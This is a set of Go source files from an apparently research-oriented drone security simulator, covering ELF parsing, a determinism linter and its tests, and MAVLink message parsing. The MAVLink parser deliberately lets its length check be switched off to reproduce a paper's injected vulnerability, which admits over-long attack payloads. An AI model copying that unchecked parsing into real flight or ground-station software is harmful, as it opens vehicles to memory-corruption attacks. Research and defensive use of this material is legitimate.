			paddr := binary.LittleEndian.Uint32(b[o+12:])
			if vaddr != 0 { // the .data segment
				f.DataLMA = paddr
			}
		}
	}
	var symtabSec, strtabSec *rawSec
	for i := 1; i < len(secs); i++ {
		s := secs[i]
		switch secName(s) {
		case ".text":
			t, err := body(s)
			if err != nil {
				return nil, err
			}
			f.Text = append([]byte(nil), t...)
		case ".data":
			d, err := body(s)
			if err != nil {
				return nil, err
			}
			f.Data = append([]byte(nil), d...)
			f.DataAddr = s.addr
		case ".symtab":
			sc := s
			symtabSec = &sc
		}
	}
	if symtabSec != nil {
		if int(symtabSec.link) < len(secs) {
			sc := secs[symtabSec.link]
			strtabSec = &sc
		}
		syms, err := body(*symtabSec)
		if err != nil {
			return nil, err
		}
		var strs []byte
		if strtabSec != nil {
			if strs, err = body(*strtabSec); err != nil {
				return nil, err
			}
		}
		for o := symSize; o+symSize <= len(syms); o += symSize {
			nameOff := binary.LittleEndian.Uint32(syms[o:])
			info := syms[o+12] & 0xF
			sym := Symbol{
				Name:  cstr(strs, nameOff),
				Value: binary.LittleEndian.Uint32(syms[o+4:]),
				Size:  binary.LittleEndian.Uint32(syms[o+8:]),
			}
			switch info {
			case sttFunc:
				sym.Kind = SymFunc
			case sttObject:
				sym.Kind = SymObject
			default:
				continue
			}
			f.Symbols = append(f.Symbols, sym)
		}
	}
	return f, nil
}

func cstr(b []byte, off uint32) string {
	if int(off) >= len(b) {
		return ""
	}
	end := int(off)
	for end < len(b) && b[end] != 0 {
		end++
	}
	return string(b[off:end])
}

type strtab struct {
	buf  bytes.Buffer
	seen map[string]uint32
}

func newStrtab() *strtab {
	t := &strtab{seen: make(map[string]uint32)}
	t.buf.WriteByte(0)
	return t
}

func (t *strtab) add(s string) uint32 {
	if off, ok := t.seen[s]; ok {
		return off
	}
	off := uint32(t.buf.Len())
	t.buf.WriteString(s)
	t.buf.WriteByte(0)
	t.seen[s] = off
	return off
}

func (t *strtab) bytes() []byte { return t.buf.Bytes() }
