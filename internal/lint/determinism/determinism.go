// Package determinism lints packages that must behave identically on
// every run for the simulation to be reproducible: the randomization
// pipeline, the gadget census, firmware generation and the network
// fabric's simulated-time core. It forbids
//
//   - wall-clock reads (time.Now, time.Since, time.Until),
//   - the global math/rand source (rand.Intn and friends — seeded
//     rand.New(rand.NewSource(...)) instances remain fine), and
//   - iteration-order-dependent code that ranges over a map while the
//     body's effects depend on ordering (conservatively: any range over
//     a map is flagged; deterministic bodies collect keys and sort).
//
// Files that legitimately touch the wall clock (UDP pacing, deadline
// management) opt out with a `//mavr:wallclock` comment anywhere in the
// file. Test files are exempt by default; Options.IncludeTests (the
// vettool's -dettests flag) extends the checks to them, with the same
// per-file opt-out.
//
// The checker is pure stdlib (go/ast + go/types) so it can run as a
// `go vet -vettool` without golang.org/x/tools; cmd/determinism-vet
// adapts it to the vet unitchecker protocol.
package determinism

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"strconv"
	"strings"
)

// WallclockTag is the magic comment that exempts a file.
const WallclockTag = "//mavr:wallclock"

// DeterministicImportPath reports whether a package must be
// deterministic and is therefore subject to this linter.
func DeterministicImportPath(path string) bool {
	switch path {
	case "mavr/internal/netlink",
		"mavr/internal/gadget",
		"mavr/internal/firmware",
		"mavr/internal/core",
		"mavr/internal/scenario",
		"mavr/internal/scengen",
		"mavr/internal/chaos",
		"mavr/internal/staticverify",
		"mavr/internal/staticverify/vsa",
		"mavr/internal/armory":
		return true
	}
	return false
}

// bannedTime are wall-clock reads; everything else in package time
// (constants, Duration arithmetic, parsing) is deterministic.
var bannedTime = map[string]bool{
	"Now": true, "Since": true, "Until": true,
}

// bannedRand are the math/rand package-level functions backed by the
// shared global source. Constructors for locally seeded generators
// (New, NewSource, NewZipf) stay allowed.
var bannedRand = map[string]bool{
	"Int": true, "Intn": true, "Int31": true, "Int31n": true,
	"Int63": true, "Int63n": true, "Uint32": true, "Uint64": true,
	"Float32": true, "Float64": true, "ExpFloat64": true,
	"NormFloat64": true, "Perm": true, "Shuffle": true,
	"Read": true, "Seed": true,
}

// Diagnostic is one finding.
type Diagnostic struct {
	Pos     token.Position
	Message string
}

func (d Diagnostic) String() string {
	return fmt.Sprintf("%s: %s", d.Pos, d.Message)
}

// Options configures a lint pass.
type Options struct {
	// IncludeTests extends the checks to _test.go files. Tests in
	// deterministic packages that legitimately touch the wall clock
	// (real-socket integration tests, latency measurements) opt out
	// per file with the same //mavr:wallclock tag.
	IncludeTests bool
}

// CheckFiles lints the files of one package with default options.
func CheckFiles(fset *token.FileSet, files []*ast.File, info *types.Info) []Diagnostic {
	return Check(fset, files, info, Options{})
}

// Check lints the files of one package. info may be nil (or
// partially filled after a failed typecheck); the wall-clock and global
// rand checks are purely syntactic, while the map-range check silently
// degrades to the expressions the typechecker did resolve.
func Check(fset *token.FileSet, files []*ast.File, info *types.Info, opts Options) []Diagnostic {
	var diags []Diagnostic
	for _, f := range files {
		name := fset.Position(f.Pos()).Filename
		if strings.HasSuffix(name, "_test.go") && !opts.IncludeTests {
			continue
		}
		if exempt(f) {
			continue
		}
		imports := localImportNames(f)
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.SelectorExpr:
				id, ok := n.X.(*ast.Ident)
				if !ok {
					return true
				}
				// A package selector's base identifier has no object;
				// a variable named "time" or "rand" shadows the import.
				if id.Obj != nil {
					return true
				}
				switch imports[id.Name] {
				case "time":
					if bannedTime[n.Sel.Name] {
						diags = append(diags, Diagnostic{
							Pos: fset.Position(n.Pos()),
							Message: fmt.Sprintf("call to time.%s in deterministic package (tag the file %s if wall-clock use is intended)",
								n.Sel.Name, WallclockTag),
						})
					}
				case "math/rand", "math/rand/v2":
					if bannedRand[n.Sel.Name] {
						diags = append(diags, Diagnostic{
							Pos: fset.Position(n.Pos()),
							Message: fmt.Sprintf("rand.%s uses the global random source in deterministic package; use a seeded rand.New(rand.NewSource(...))",
								n.Sel.Name),
						})
					}
				}
			case *ast.RangeStmt:
				if info == nil || n.X == nil {
					return true
				}
				if tv, ok := info.Types[n.X]; ok && tv.Type != nil {
					if _, isMap := tv.Type.Underlying().(*types.Map); isMap && !isCollectLoop(n) {
						diags = append(diags, Diagnostic{
							Pos:     fset.Position(n.Pos()),
							Message: "range over map in deterministic package: iteration order varies per run; collect and sort the keys",
						})
					}
				}
			}
			return true
		})
	}
	return diags
}

// isCollectLoop recognizes the sanctioned fix itself: a range over a
// map whose whole body is `xs = append(xs, ...)` only gathers elements
// for a later sort, so iteration order cannot leak out of the loop.
func isCollectLoop(n *ast.RangeStmt) bool {
	if n.Body == nil || len(n.Body.List) != 1 {
		return false
	}
	asg, ok := n.Body.List[0].(*ast.AssignStmt)
	if !ok || len(asg.Lhs) != 1 || len(asg.Rhs) != 1 {
		return false
	}
	call, ok := asg.Rhs[0].(*ast.CallExpr)
	if !ok {
		return false
	}
	fn, ok := call.Fun.(*ast.Ident)
	return ok && fn.Name == "append" && fn.Obj == nil
}

// exempt reports whether the file carries the wallclock opt-out tag.
func exempt(f *ast.File) bool {
	for _, cg := range f.Comments {
		for _, c := range cg.List {
			if strings.HasPrefix(strings.TrimSpace(c.Text), WallclockTag) {
				return true
			}
		}
	}
	return false
}

// localImportNames maps each import's local name in this file to its
// import path, resolving renames and defaulting to the last path
// element.
func localImportNames(f *ast.File) map[string]string {
	m := make(map[string]string, len(f.Imports))
	for _, imp := range f.Imports {
		path, err := strconv.Unquote(imp.Path.Value)
		if err != nil {
			continue
		}
		name := path
		if i := strings.LastIndex(path, "/"); i >= 0 {
			name = path[i+1:]
		}
		if imp.Name != nil {
			name = imp.Name.Name
			if name == "_" || name == "." {
				continue
			}
		}
		m[name] = path
	}
	return m
}
