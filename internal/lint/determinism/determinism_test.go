package determinism

import (
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"strings"
	"testing"
)

// parseAndCheck type-checks one synthetic file and lints it. The
// importer only needs stdlib packages, which the source importer
// resolves without export data.
func parseAndCheck(t *testing.T, filename, src string) []Diagnostic {
	t.Helper()
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, filename, src, parser.ParseComments)
	if err != nil {
		t.Fatal(err)
	}
	info := &types.Info{Types: make(map[ast.Expr]types.TypeAndValue)}
	conf := types.Config{Importer: importer.ForCompiler(fset, "source", nil)}
	if _, err := conf.Check("p", fset, []*ast.File{f}, info); err != nil {
		// Typecheck failure degrades the map check but must not stop
		// the syntactic ones; mirror the vettool's behavior.
		info = nil
	}
	return CheckFiles(fset, []*ast.File{f}, info)
}

// The canonical seeded violation: a deterministic package reads the
// wall clock. The linter must catch it.
func TestCatchesTimeNow(t *testing.T) {
	diags := parseAndCheck(t, "clock.go", `package p

import "time"

func stamp() int64 { return time.Now().UnixNano() }
`)
	if len(diags) != 1 {
		t.Fatalf("got %d diagnostics, want 1: %v", len(diags), diags)
	}
	if !strings.Contains(diags[0].Message, "time.Now") {
		t.Fatalf("wrong diagnostic: %s", diags[0])
	}
}

func TestCatchesTimeSinceAndUntil(t *testing.T) {
	diags := parseAndCheck(t, "clock.go", `package p

import "time"

func age(t0 time.Time) (time.Duration, time.Duration) {
	return time.Since(t0), time.Until(t0)
}
`)
	if len(diags) != 2 {
		t.Fatalf("got %d diagnostics, want 2: %v", len(diags), diags)
	}
}

// Duration arithmetic and constants are deterministic — no findings.
func TestAllowsDeterministicTimeUse(t *testing.T) {
	diags := parseAndCheck(t, "dur.go", `package p

import "time"

const tick = 50 * time.Millisecond

func double(d time.Duration) time.Duration { return 2 * d }
`)
	if len(diags) != 0 {
		t.Fatalf("false positives: %v", diags)
	}
}

func TestCatchesGlobalRand(t *testing.T) {
	diags := parseAndCheck(t, "rng.go", `package p

import "math/rand"

func roll() int { return rand.Intn(6) }

func noise() float64 { return rand.Float64() }
`)
	if len(diags) != 2 {
		t.Fatalf("got %d diagnostics, want 2: %v", len(diags), diags)
	}
	if !strings.Contains(diags[0].Message, "rand.Intn") {
		t.Fatalf("wrong diagnostic: %s", diags[0])
	}
}

// Seeded generators are the sanctioned pattern.
func TestAllowsSeededRand(t *testing.T) {
	diags := parseAndCheck(t, "rng.go", `package p

import "math/rand"

func roll(seed int64) int {
	rng := rand.New(rand.NewSource(seed))
	return rng.Intn(6)
}
`)
	if len(diags) != 0 {
		t.Fatalf("false positives: %v", diags)
	}
}

func TestCatchesMapRange(t *testing.T) {
	diags := parseAndCheck(t, "iter.go", `package p

func sum(m map[string]int) (s int) {
	for _, v := range m {
		s += v
	}
	return s
}
`)
	if len(diags) != 1 {
		t.Fatalf("got %d diagnostics, want 1: %v", len(diags), diags)
	}
	if !strings.Contains(diags[0].Message, "range over map") {
		t.Fatalf("wrong diagnostic: %s", diags[0])
	}
}

// Ranging over slices, channels and integers is ordered — no findings.
func TestAllowsOrderedRange(t *testing.T) {
	diags := parseAndCheck(t, "iter.go", `package p

func sum(xs []int, ch chan int) (s int) {
	for _, v := range xs {
		s += v
	}
	for v := range ch {
		s += v
	}
	for i := range 10 {
		s += i
	}
	return s
}
`)
	if len(diags) != 0 {
		t.Fatalf("false positives: %v", diags)
	}
}

// The collect-then-sort idiom the diagnostic itself recommends must
// not be flagged: a body of just `keys = append(keys, k)` cannot
// observe iteration order.
func TestAllowsCollectAndSortIdiom(t *testing.T) {
	diags := parseAndCheck(t, "iter.go", `package p

import "sort"

func keys(m map[string]int) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
`)
	if len(diags) != 0 {
		t.Fatalf("collect loop flagged: %v", diags)
	}
}

// A collect loop that also does something order-sensitive is still
// flagged.
func TestCollectLoopWithSideEffectsFlagged(t *testing.T) {
	diags := parseAndCheck(t, "iter.go", `package p

func firstKey(m map[string]int) (ks []string, first string) {
	for k := range m {
		if first == "" {
			first = k
		}
		ks = append(ks, k)
	}
	return ks, first
}
`)
	if len(diags) != 1 {
		t.Fatalf("got %d diagnostics, want 1: %v", len(diags), diags)
	}
}

// The //mavr:wallclock tag exempts a whole file.
func TestWallclockTagExempts(t *testing.T) {
	diags := parseAndCheck(t, "pacer.go", `// Pacing logic runs against the real clock by design.
//mavr:wallclock

package p

import "time"

func now() time.Time { return time.Now() }
`)
	if len(diags) != 0 {
		t.Fatalf("tagged file still flagged: %v", diags)
	}
}

// Test files are exempt wholesale by default.
func TestTestFilesExempt(t *testing.T) {
	diags := parseAndCheck(t, "clock_test.go", `package p

import "time"

func helper() time.Time { return time.Now() }
`)
	if len(diags) != 0 {
		t.Fatalf("test file flagged: %v", diags)
	}
}

// Options.IncludeTests (the vettool's -dettests flag) extends the
// checks to _test.go files, with the //mavr:wallclock opt-out intact.
func TestIncludeTestsLintsTestFiles(t *testing.T) {
	const src = `package p

import "time"

func helper() time.Time { return time.Now() }
`
	parse := func(name, src string) (*token.FileSet, []*ast.File) {
		t.Helper()
		fset := token.NewFileSet()
		f, err := parser.ParseFile(fset, name, src, parser.ParseComments)
		if err != nil {
			t.Fatal(err)
		}
		return fset, []*ast.File{f}
	}

	fset, files := parse("clock_test.go", src)
	diags := Check(fset, files, nil, Options{IncludeTests: true})
	if len(diags) != 1 || !strings.Contains(diags[0].Message, "time.Now") {
		t.Fatalf("IncludeTests missed the test-file violation: %v", diags)
	}

	fset, files = parse("clock_test.go", "//mavr:wallclock\n\n"+src)
	if diags := Check(fset, files, nil, Options{IncludeTests: true}); len(diags) != 0 {
		t.Fatalf("tagged test file still flagged under IncludeTests: %v", diags)
	}
}

// A local variable shadowing the import name must not trigger.
func TestShadowedImportName(t *testing.T) {
	diags := parseAndCheck(t, "shadow.go", `package p

type clock struct{ Now func() int64 }

func use(time clock) int64 { return time.Now() }
`)
	if len(diags) != 0 {
		t.Fatalf("shadowed name flagged: %v", diags)
	}
}

// A renamed time import is still caught.
func TestRenamedImport(t *testing.T) {
	diags := parseAndCheck(t, "renamed.go", `package p

import wall "time"

func stamp() int64 { return wall.Now().UnixNano() }
`)
	if len(diags) != 1 {
		t.Fatalf("got %d diagnostics, want 1: %v", len(diags), diags)
	}
}

// Map-range detection degrades gracefully without type information
// instead of crashing or spewing false positives.
func TestNilInfoDegrades(t *testing.T) {
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, "x.go", `package p

import "time"

func f(m map[int]int) int64 {
	for range m {
	}
	return time.Now().UnixNano()
}
`, parser.ParseComments)
	if err != nil {
		t.Fatal(err)
	}
	diags := CheckFiles(fset, []*ast.File{f}, nil)
	if len(diags) != 1 || !strings.Contains(diags[0].Message, "time.Now") {
		t.Fatalf("nil-info check got %v, want just the time.Now finding", diags)
	}
}

// The package set under enforcement matches the deterministic layers.
func TestDeterministicImportPaths(t *testing.T) {
	for _, p := range []string{"mavr/internal/netlink", "mavr/internal/gadget", "mavr/internal/firmware", "mavr/internal/core", "mavr/internal/staticverify", "mavr/internal/staticverify/vsa", "mavr/internal/armory", "mavr/internal/scenario", "mavr/internal/scengen", "mavr/internal/chaos"} {
		if !DeterministicImportPath(p) {
			t.Errorf("%s not enforced", p)
		}
	}
	for _, p := range []string{"mavr/internal/board", "mavr/internal/gcs", "fmt", "mavr/cmd/mavr-sim"} {
		if DeterministicImportPath(p) {
			t.Errorf("%s wrongly enforced", p)
		}
	}
}
