package mavlink

// Parser is an incremental MAVLink v1.0 frame decoder fed one byte at a
// time, mirroring how the APM decodes its serial stream in software
// (paper §II-C). The zero value is ready to use.
//
// StrictLength controls the schema length check. A conformant decoder
// (StrictLength true) drops frames whose length byte disagrees with the
// message schema; the paper's injected vulnerability is exactly this
// check disabled, which allows over-long attack payloads through.
type Parser struct {
	// StrictLength enables the per-message payload length check.
	StrictLength bool

	state int
	buf   []byte
	need  int
	stats ParserStats
}

// ParserStats counts parser outcomes.
type ParserStats struct {
	Frames      int // complete, checksum-valid frames
	CRCErrors   int
	LengthDrops int // frames dropped by the strict length check
	Resyncs     int // bytes skipped hunting for magic
}

const (
	stIdle = iota
	stHeader
	stBody
)

// Stats returns the accumulated counters.
func (p *Parser) Stats() ParserStats { return p.stats }

// Feed consumes one received byte and returns a complete frame when one
// is finished, or nil.
func (p *Parser) Feed(b byte) *Frame {
	switch p.state {
	case stIdle:
		if b != Magic {
			p.stats.Resyncs++
			return nil
		}
		p.buf = p.buf[:0]
		p.state = stHeader
	case stHeader:
		p.buf = append(p.buf, b)
		if len(p.buf) == 5 {
			p.need = int(p.buf[0]) + 2 // payload + checksum
			p.state = stBody
		}
	case stBody:
		p.buf = append(p.buf, b)
		if len(p.buf) == 5+p.need {
			p.state = stIdle
			return p.finish()
		}
	}
	return nil
}

// FeedBytes consumes a byte slice, returning all completed frames.
func (p *Parser) FeedBytes(data []byte) []*Frame {
	var out []*Frame
	for _, b := range data {
		if f := p.Feed(b); f != nil {
			out = append(out, f)
		}
	}
	return out
}

func (p *Parser) finish() *Frame {
	n := int(p.buf[0])
	f := &Frame{
		Len:     p.buf[0],
		Seq:     p.buf[1],
		SysID:   p.buf[2],
		CompID:  p.buf[3],
		MsgID:   p.buf[4],
		Payload: append([]byte(nil), p.buf[5:5+n]...),
	}
	f.Checksum = uint16(p.buf[5+n]) | uint16(p.buf[6+n])<<8
	crc := CRC(p.buf[:5+n])
	extra, ok := crcExtra[f.MsgID]
	if !ok {
		p.stats.CRCErrors++
		return nil
	}
	crc = CRCAccumulate(extra, crc)
	if crc != f.Checksum {
		p.stats.CRCErrors++
		return nil
	}
	if p.StrictLength {
		if want, ok := expectedLen[f.MsgID]; ok && n != want {
			p.stats.LengthDrops++
			return nil
		}
	}
	p.stats.Frames++
	return f
}
