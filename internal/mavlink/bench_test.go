package mavlink_test

import (
	"testing"

	"mavr/internal/mavlink"
)

// BenchmarkFrameEncode measures the hot sender path: packing a
// heartbeat frame into a reused datagram buffer.
func BenchmarkFrameEncode(b *testing.B) {
	hb := &mavlink.Heartbeat{Type: 1, Autopilot: 3, SystemStatus: mavlink.StateActive, MavlinkVersion: 3}
	f := &mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, SysID: 1, CompID: 1, Payload: hb.Marshal()}
	buf := make([]byte, 0, 64)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var err error
		buf, err = f.AppendMarshal(buf[:0])
		if err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(len(buf)))
}

// BenchmarkFrameParse measures the receiver path: the incremental
// byte-stream parser over a batch of conformant frames.
func BenchmarkFrameParse(b *testing.B) {
	wire, err := mavlink.MarshalBatch(testFrames())
	if err != nil {
		b.Fatal(err)
	}
	want := len(testFrames())
	p := &mavlink.Parser{StrictLength: true}
	b.ReportAllocs()
	b.SetBytes(int64(len(wire)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := p.FeedBytes(wire); len(got) != want {
			b.Fatalf("parsed %d frames, want %d", len(got), want)
		}
	}
}

// BenchmarkBatchSplit measures the datagram fast path used by netlink:
// whole-frame decode without the byte-at-a-time state machine.
func BenchmarkBatchSplit(b *testing.B) {
	wire, err := mavlink.MarshalBatch(testFrames())
	if err != nil {
		b.Fatal(err)
	}
	want := len(testFrames())
	b.ReportAllocs()
	b.SetBytes(int64(len(wire)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		got, err := mavlink.SplitBatch(wire)
		if err != nil || len(got) != want {
			b.Fatalf("split %d frames, err=%v", len(got), err)
		}
	}
}
