package mavlink

import (
	"encoding/binary"
	"fmt"
	"math"
)

// Additional MAVLink v1 common-set messages a ground station uses to
// operate an ArduPilot vehicle: system status, position, RC/servo
// telemetry, the mission (waypoint) protocol, parameter reads and
// command acknowledgement.

// le is a little-endian cursor for payload marshalling.
type le struct {
	b   []byte
	off int
}

func (c *le) u8(v byte)     { c.b[c.off] = v; c.off++ }
func (c *le) u16(v uint16)  { binary.LittleEndian.PutUint16(c.b[c.off:], v); c.off += 2 }
func (c *le) u32(v uint32)  { binary.LittleEndian.PutUint32(c.b[c.off:], v); c.off += 4 }
func (c *le) i16(v int16)   { c.u16(uint16(v)) }
func (c *le) i32(v int32)   { c.u32(uint32(v)) }
func (c *le) f32(v float32) { c.u32(math.Float32bits(v)) }

func (c *le) gu8() byte     { v := c.b[c.off]; c.off++; return v }
func (c *le) gu16() uint16  { v := binary.LittleEndian.Uint16(c.b[c.off:]); c.off += 2; return v }
func (c *le) gu32() uint32  { v := binary.LittleEndian.Uint32(c.b[c.off:]); c.off += 4; return v }
func (c *le) gi16() int16   { return int16(c.gu16()) }
func (c *le) gi32() int32   { return int32(c.gu32()) }
func (c *le) gf32() float32 { return math.Float32frombits(c.gu32()) }

func checkLen(name string, p []byte, want int) error {
	if len(p) < want {
		return fmt.Errorf("mavlink: %s payload %d bytes, want %d", name, len(p), want)
	}
	return nil
}

// SysStatus is SYS_STATUS (id 1): onboard health and load.
type SysStatus struct {
	SensorsPresent, SensorsEnabled, SensorsHealth uint32
	Load                                          uint16 // 0..1000 (the paper's 96% CPU -> 960)
	VoltageBattery                                uint16 // mV
	CurrentBattery                                int16  // 10*mA
	DropRateComm                                  uint16
	ErrorsComm                                    uint16
	ErrorsCount1, ErrorsCount2                    uint16
	ErrorsCount3, ErrorsCount4                    uint16
	BatteryRemaining                              int8
}

// Marshal encodes the SYS_STATUS payload.
func (m *SysStatus) Marshal() []byte {
	c := &le{b: make([]byte, 31)}
	c.u32(m.SensorsPresent)
	c.u32(m.SensorsEnabled)
	c.u32(m.SensorsHealth)
	c.u16(m.Load)
	c.u16(m.VoltageBattery)
	c.i16(m.CurrentBattery)
	c.u16(m.DropRateComm)
	c.u16(m.ErrorsComm)
	c.u16(m.ErrorsCount1)
	c.u16(m.ErrorsCount2)
	c.u16(m.ErrorsCount3)
	c.u16(m.ErrorsCount4)
	c.u8(byte(m.BatteryRemaining))
	return c.b
}

// UnmarshalSysStatus decodes a SYS_STATUS payload.
func UnmarshalSysStatus(p []byte) (*SysStatus, error) {
	if err := checkLen("sys_status", p, 31); err != nil {
		return nil, err
	}
	c := &le{b: p}
	return &SysStatus{
		SensorsPresent: c.gu32(), SensorsEnabled: c.gu32(), SensorsHealth: c.gu32(),
		Load: c.gu16(), VoltageBattery: c.gu16(), CurrentBattery: c.gi16(),
		DropRateComm: c.gu16(), ErrorsComm: c.gu16(),
		ErrorsCount1: c.gu16(), ErrorsCount2: c.gu16(),
		ErrorsCount3: c.gu16(), ErrorsCount4: c.gu16(),
		BatteryRemaining: int8(c.gu8()),
	}, nil
}

// GPSRawInt is GPS_RAW_INT (id 24): raw GNSS fix.
type GPSRawInt struct {
	TimeUsec          uint64
	Lat, Lon, Alt     int32
	Eph, Epv          uint16
	Vel, Cog          uint16
	FixType           byte
	SatellitesVisible byte
}

// Marshal encodes the GPS_RAW_INT payload.
func (m *GPSRawInt) Marshal() []byte {
	c := &le{b: make([]byte, 30)}
	c.u32(uint32(m.TimeUsec))
	c.u32(uint32(m.TimeUsec >> 32))
	c.i32(m.Lat)
	c.i32(m.Lon)
	c.i32(m.Alt)
	c.u16(m.Eph)
	c.u16(m.Epv)
	c.u16(m.Vel)
	c.u16(m.Cog)
	c.u8(m.FixType)
	c.u8(m.SatellitesVisible)
	return c.b
}

// UnmarshalGPSRawInt decodes a GPS_RAW_INT payload.
func UnmarshalGPSRawInt(p []byte) (*GPSRawInt, error) {
	if err := checkLen("gps_raw_int", p, 30); err != nil {
		return nil, err
	}
	c := &le{b: p}
	lo := uint64(c.gu32())
	hi := uint64(c.gu32())
	return &GPSRawInt{
		TimeUsec: hi<<32 | lo,
		Lat:      c.gi32(), Lon: c.gi32(), Alt: c.gi32(),
		Eph: c.gu16(), Epv: c.gu16(), Vel: c.gu16(), Cog: c.gu16(),
		FixType: c.gu8(), SatellitesVisible: c.gu8(),
	}, nil
}

// GlobalPositionInt is GLOBAL_POSITION_INT (id 33): fused position.
type GlobalPositionInt struct {
	TimeBootMs       uint32
	Lat, Lon         int32
	Alt, RelativeAlt int32
	Vx, Vy, Vz       int16
	Hdg              uint16
}

// Marshal encodes the GLOBAL_POSITION_INT payload.
func (m *GlobalPositionInt) Marshal() []byte {
	c := &le{b: make([]byte, 28)}
	c.u32(m.TimeBootMs)
	c.i32(m.Lat)
	c.i32(m.Lon)
	c.i32(m.Alt)
	c.i32(m.RelativeAlt)
	c.i16(m.Vx)
	c.i16(m.Vy)
	c.i16(m.Vz)
	c.u16(m.Hdg)
	return c.b
}

// UnmarshalGlobalPositionInt decodes a GLOBAL_POSITION_INT payload.
func UnmarshalGlobalPositionInt(p []byte) (*GlobalPositionInt, error) {
	if err := checkLen("global_position_int", p, 28); err != nil {
		return nil, err
	}
	c := &le{b: p}
	return &GlobalPositionInt{
		TimeBootMs: c.gu32(),
		Lat:        c.gi32(), Lon: c.gi32(), Alt: c.gi32(), RelativeAlt: c.gi32(),
		Vx: c.gi16(), Vy: c.gi16(), Vz: c.gi16(), Hdg: c.gu16(),
	}, nil
}

// RCChannelsRaw is RC_CHANNELS_RAW (id 35).
type RCChannelsRaw struct {
	TimeBootMs uint32
	Chan       [8]uint16
	Port       byte
	RSSI       byte
}

// Marshal encodes the RC_CHANNELS_RAW payload.
func (m *RCChannelsRaw) Marshal() []byte {
	c := &le{b: make([]byte, 22)}
	c.u32(m.TimeBootMs)
	for _, v := range m.Chan {
		c.u16(v)
	}
	c.u8(m.Port)
	c.u8(m.RSSI)
	return c.b
}

// UnmarshalRCChannelsRaw decodes an RC_CHANNELS_RAW payload.
func UnmarshalRCChannelsRaw(p []byte) (*RCChannelsRaw, error) {
	if err := checkLen("rc_channels_raw", p, 22); err != nil {
		return nil, err
	}
	c := &le{b: p}
	m := &RCChannelsRaw{TimeBootMs: c.gu32()}
	for i := range m.Chan {
		m.Chan[i] = c.gu16()
	}
	m.Port = c.gu8()
	m.RSSI = c.gu8()
	return m, nil
}

// ServoOutputRaw is SERVO_OUTPUT_RAW (id 36): the control-surface
// outputs whose strict deadlines §III describes.
type ServoOutputRaw struct {
	TimeUsec uint32
	Servo    [8]uint16
	Port     byte
}

// Marshal encodes the SERVO_OUTPUT_RAW payload.
func (m *ServoOutputRaw) Marshal() []byte {
	c := &le{b: make([]byte, 21)}
	c.u32(m.TimeUsec)
	for _, v := range m.Servo {
		c.u16(v)
	}
	c.u8(m.Port)
	return c.b
}

// UnmarshalServoOutputRaw decodes a SERVO_OUTPUT_RAW payload.
func UnmarshalServoOutputRaw(p []byte) (*ServoOutputRaw, error) {
	if err := checkLen("servo_output_raw", p, 21); err != nil {
		return nil, err
	}
	c := &le{b: p}
	m := &ServoOutputRaw{TimeUsec: c.gu32()}
	for i := range m.Servo {
		m.Servo[i] = c.gu16()
	}
	m.Port = c.gu8()
	return m, nil
}

// MissionItem is MISSION_ITEM (id 39): one waypoint of the navigation
// path the paper's stealthy attacker modifies.
type MissionItem struct {
	Param1, Param2, Param3, Param4 float32
	X, Y, Z                        float32
	Seq                            uint16
	Command                        uint16
	TargetSystem, TargetComponent  byte
	Frame                          byte
	Current                        byte
	Autocontinue                   byte
}

// Marshal encodes the MISSION_ITEM payload.
func (m *MissionItem) Marshal() []byte {
	c := &le{b: make([]byte, 37)}
	c.f32(m.Param1)
	c.f32(m.Param2)
	c.f32(m.Param3)
	c.f32(m.Param4)
	c.f32(m.X)
	c.f32(m.Y)
	c.f32(m.Z)
	c.u16(m.Seq)
	c.u16(m.Command)
	c.u8(m.TargetSystem)
	c.u8(m.TargetComponent)
	c.u8(m.Frame)
	c.u8(m.Current)
	c.u8(m.Autocontinue)
	return c.b
}

// UnmarshalMissionItem decodes a MISSION_ITEM payload.
func UnmarshalMissionItem(p []byte) (*MissionItem, error) {
	if err := checkLen("mission_item", p, 37); err != nil {
		return nil, err
	}
	c := &le{b: p}
	return &MissionItem{
		Param1: c.gf32(), Param2: c.gf32(), Param3: c.gf32(), Param4: c.gf32(),
		X: c.gf32(), Y: c.gf32(), Z: c.gf32(),
		Seq: c.gu16(), Command: c.gu16(),
		TargetSystem: c.gu8(), TargetComponent: c.gu8(),
		Frame: c.gu8(), Current: c.gu8(), Autocontinue: c.gu8(),
	}, nil
}

// MissionRequest is MISSION_REQUEST (id 40).
type MissionRequest struct {
	Seq                           uint16
	TargetSystem, TargetComponent byte
}

// Marshal encodes the MISSION_REQUEST payload.
func (m *MissionRequest) Marshal() []byte {
	c := &le{b: make([]byte, 4)}
	c.u16(m.Seq)
	c.u8(m.TargetSystem)
	c.u8(m.TargetComponent)
	return c.b
}

// UnmarshalMissionRequest decodes a MISSION_REQUEST payload.
func UnmarshalMissionRequest(p []byte) (*MissionRequest, error) {
	if err := checkLen("mission_request", p, 4); err != nil {
		return nil, err
	}
	c := &le{b: p}
	return &MissionRequest{Seq: c.gu16(), TargetSystem: c.gu8(), TargetComponent: c.gu8()}, nil
}

// MissionCount is MISSION_COUNT (id 44).
type MissionCount struct {
	Count                         uint16
	TargetSystem, TargetComponent byte
}

// Marshal encodes the MISSION_COUNT payload.
func (m *MissionCount) Marshal() []byte {
	c := &le{b: make([]byte, 4)}
	c.u16(m.Count)
	c.u8(m.TargetSystem)
	c.u8(m.TargetComponent)
	return c.b
}

// UnmarshalMissionCount decodes a MISSION_COUNT payload.
func UnmarshalMissionCount(p []byte) (*MissionCount, error) {
	if err := checkLen("mission_count", p, 4); err != nil {
		return nil, err
	}
	c := &le{b: p}
	return &MissionCount{Count: c.gu16(), TargetSystem: c.gu8(), TargetComponent: c.gu8()}, nil
}

// MissionAck is MISSION_ACK (id 47).
type MissionAck struct {
	TargetSystem, TargetComponent byte
	Type                          byte
}

// Marshal encodes the MISSION_ACK payload.
func (m *MissionAck) Marshal() []byte {
	return []byte{m.TargetSystem, m.TargetComponent, m.Type}
}

